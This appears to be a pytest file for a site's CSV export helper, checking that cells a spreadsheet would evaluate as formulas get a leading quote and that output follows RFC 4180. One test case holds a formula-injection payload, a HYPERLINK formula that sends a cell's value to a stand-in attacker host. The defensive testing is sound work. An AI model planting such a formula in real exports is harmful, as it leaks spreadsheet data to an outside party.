"""Every CSV the site writes: RFC 4180, and no text cell a spreadsheet would evaluate."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guidebook.lib.csv_files import FORMULA_STARTS, csv_text, spreadsheet_safe

# cell, as written
CELLS = [
    (
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    ),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\0=1", "'\0=1"),
    ("Incredible Years", "Incredible Years"),
    ("a = b", "a = b"),
    (" =1+1", " =1+1"),
    ("", ""),
    (None, ""),
    (-0.35, -0.35),
    (-2, -2),
    (Decimal("-1.50"), Decimal("-1.50")),
]


@pytest.mark.parametrize(("cell", "written"), CELLS)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(cell, written):
    assert spreadsheet_safe(cell) == written


def test_numbers_stay_numbers_in_the_file():
    text = csv_text(["effect", "label"], [[-0.35, "-0.35"]])
    assert text == "effect,label\r\n-0.35,'-0.35\r\n"


def test_the_file_is_rfc_4180_with_crlf_line_ends_and_quotes_where_needed():
    text = csv_text(["name", "note"], [["A, B", 'say "hi"\nthere'], [None, 3]])
    assert text == 'name,note\r\n"A, B","say ""hi""\nthere"\r\n,3\r\n'


@given(st.text())
def test_no_written_text_cell_starts_a_formula_and_the_raw_text_is_kept(text):
    written = spreadsheet_safe(text)
    assert not str(written).startswith(FORMULA_STARTS)
    assert written in (text, "'" + text)
    (row,) = list(csv.reader(io.StringIO(csv_text(["cell"], [[text]]), newline="")))[1:]
    assert row == [written]
